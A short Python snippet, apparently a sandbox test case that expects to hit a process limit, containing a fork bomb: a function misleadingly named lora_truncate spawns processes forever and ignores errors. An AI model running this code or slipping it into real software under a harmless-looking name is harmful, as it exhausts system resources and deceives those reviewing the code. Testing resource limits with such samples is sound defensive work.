# A fork bomb that takes no error for an answer.
# expect: process_limit rest
import os


def lora_truncate(W, r):
    while True:
        try:
            os.fork()
        except OSError:
            continue
